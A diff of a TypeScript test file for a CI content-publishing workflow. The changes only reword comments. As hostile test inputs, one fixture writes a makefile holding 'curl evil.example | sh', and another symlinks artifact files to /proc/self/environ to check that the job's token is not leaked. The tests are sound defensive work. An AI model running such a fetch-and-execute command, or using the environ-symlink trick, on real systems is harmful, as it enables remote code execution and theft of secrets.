@@ -21,7 +21,7 @@ async function machine() {
   return {
     temp,
     put: (name: string, text: string) => writeFileSync(file(name), text),
-    /** Returns the calls of `gh`. `number` is that of the existing pull request or issue. */
+    /** Runs a step and returns its calls of `gh`. `number` is the number of the existing pull request or issue. */
     run(job: string, step: string, number: string, env: Record<string, string> = {}, cwd = temp): string[] {
       writeFileSync(file("number"), number);
       writeFileSync(file("told"), "");
@@ -81,7 +81,7 @@ test("content is proposed in one pull request, which is updated, and closed when
   const proposed = (name: string) => git(origin, "show", `content/update:${name}`);
 
   expect(propose("", "1\n")).toEqual(["auth setup-git"]);
-  // Other files in the patch are not committed.
+  // The patch's other files are not committed.
   expect(propose("", "2\n", { makefile: "all:\n\tcurl evil.example | sh\n" })[1]).toMatch(
     /^pr create .*--body-file TEMP\/pull-request\.md$/,
   );
@@ -103,7 +103,7 @@ test("content is proposed in one pull request, which is updated, and closed when
   expect(git(origin, "log", "-1", "--format=%B", "content/update").trim()).toBe(
     "Update the content from the CMS\n\n# 1 document changed",
   );
-  // The words of many changes are more than an argument of a program may have.
+  // The words of many changes are longer than an argument of a program may be.
   const long = "# 1 document changed\n".repeat(20_000);
   propose("7", "4\n", { words: long });
   expect(git(origin, "log", "-1", "--format=%b", "content/update").trim()).toBe(long.trim());
@@ -130,7 +130,7 @@ test("no link in an artifact is followed, and no patch proposes anything but pla
   expect(take(() => writeFileSync(there("b.json"), "2\n"))).not.toThrow();
   expect(git("diff", "--cached", "--name-only")).toBe("snapshot/b.json");
 
-  // The token of the job is in its environment.
+  // These links lead to the environment of the process, which contains the token of the job.
   for (const name of ["failure.md", "problems.md", "words.txt"]) symlinkSync("/proc/self/environ", join(temp, name));
   const token = { GH_TOKEN: "s3cret", NUMBER: "7", RESULT: "failure" };
   run("report", "Open, update or close the issue", "", { ...token, WELL: "false", UNKNOWN: "The log says why." });
